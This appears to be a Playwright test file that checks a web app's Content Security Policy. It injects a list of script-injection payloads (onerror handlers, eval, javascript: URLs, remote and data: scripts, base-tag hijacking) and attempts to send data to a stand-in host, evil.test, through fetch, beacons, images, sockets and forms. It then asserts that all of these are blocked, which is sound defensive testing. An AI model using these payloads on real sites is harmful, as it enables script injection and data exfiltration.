import { expect, test } from './support/test.ts'

/** Attacks of an injected script. The policy has to block all of them. */
const attacks: Record<string, string> = {
  'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.hit=1">'`,
  'an inline script': `const s = document.createElement('script'); s.textContent = 'window.hit=1'; document.body.append(s)`,
  'a script of another origin': `const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)`,
  'a data script': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)`,
  eval: `eval('window.hit=1')`,
  Function: `new Function('window.hit=1')()`,
  'a text timer': `setTimeout('window.hit=1', 0)`,
  'a handler attribute': `document.body.setAttribute('onclick', 'window.hit=1'); document.body.click()`,
  'a script address': `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click()`,
  srcdoc: `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit=1</script>'; document.body.append(f)`,
  'a module by text': `import('data:text/javascript,window.hit=1').catch(() => {})`,
  'a worker by text': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.hit = 1 }`,
  base: `const b = document.createElement('base'); b.href = 'https://evil.test/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1`,
}

for (const [name, script] of Object.entries(attacks)) {
  test(`the policy stops ${name}`, async ({ page, signIn, allowConsole, context }) => {
    allowConsole(/Content Security Policy|Trusted|Refused|TrustedHTML|TrustedScript|violat/i)
    const out: string[] = []
    await context.route('**://evil.test/**', (route) => {
      out.push(route.request().url())
      return route.abort()
    })
    await signIn('ADMIN')
    await page.goto('/home')
    const client = await context.newCDPSession(page)
    await client.send('Runtime.evaluate', {
      expression: `try { ${script} } catch {}`,
      allowUnsafeEvalBlockedByCSP: false,
    })
    // None of the attempts needs more than two frames.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
    expect(out).toEqual([])
  })
}

test('the page can only send requests to the origin of the API', { tag: ['@API-43'] }, async ({
  page,
  signIn,
  allowConsole,
  context,
}) => {
  allowConsole(/Content Security Policy|Refused|violat/i)
  const out: string[] = []
  await context.route('**://evil.test/**', (route) => {
    out.push(route.request().url())
    return route.abort()
  })
  await signIn('ADMIN')
  await page.goto('/home')
  await page.evaluate(async () => {
    const evil = 'https://evil.test/?t='
    await fetch(evil).catch(() => {})
    navigator.sendBeacon(evil)
    new Image().src = evil
    try {
      new WebSocket('wss://evil.test')
      new EventSource(evil)
    } catch {}
    const form = document.createElement('form')
    form.action = evil
    document.body.append(form)
    form.submit()
  })
  expect(out).toEqual([])
})
